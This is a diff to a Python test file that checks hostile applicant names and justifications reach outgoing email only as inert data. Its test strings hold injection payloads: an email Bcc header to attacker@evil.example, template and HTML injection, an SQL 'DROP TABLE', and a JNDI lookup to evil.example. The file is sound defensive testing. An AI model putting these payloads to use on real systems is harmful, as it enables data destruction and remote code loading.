@@ -25,7 +25,10 @@ from test_workflow import test_full_scenario  # noqa: E402,F401  (the full run, 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
 from webhook_receiver import documented_verify  # noqa: E402
 
-HOSTILE_NAME = "Eve Hostile\r\nBcc: attacker@evil.example {{approve_url}} {{#request_id}}leak{{/request_id}} <b>bold</b>"
+# Line breaks in a name are refused at the intake now (422; Tests/IntakeTests/FreeTextTests.swift);
+# what passes must still reach email only as data. U+200D is allowed, and joins the `<` before it
+# into one Character with it.
+HOSTILE_NAME = "Eve Hostile Bcc: attacker@evil.example {{approve_url}} {{#request_id}}leak{{/request_id}} <b>bold</b> <\u200di>it</i>"
 HOSTILE_JUSTIFICATION = "'); DROP TABLE requests;-- {{tenant_id}} ${jndi:ldap://evil.example/a}"
 SUPERVISOR = "sup.hostile@example.edu"
 EXPECTED_HEADERS = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "auto-submitted", "x-flexwork-request-id"}
@@ -71,7 +74,7 @@ def test_hostile_names_reach_email_only_as_data(system, tenants):
         assert len(links) <= 2, f"the name's template syntax added links: {links}"
         if "Eve Hostile" in text:
             assert "{{approve_url}}" in text and "{{#request_id}}leak{{/request_id}}" in text, "template syntax in data was interpreted"
-        assert "<b>bold</b>" not in html
+        assert "<b>bold</b>" not in html and "<\u200di>" not in html
 
 
 def test_captured_webhook_signature_is_refused_when_replayed(system, tenants, monkeypatch):
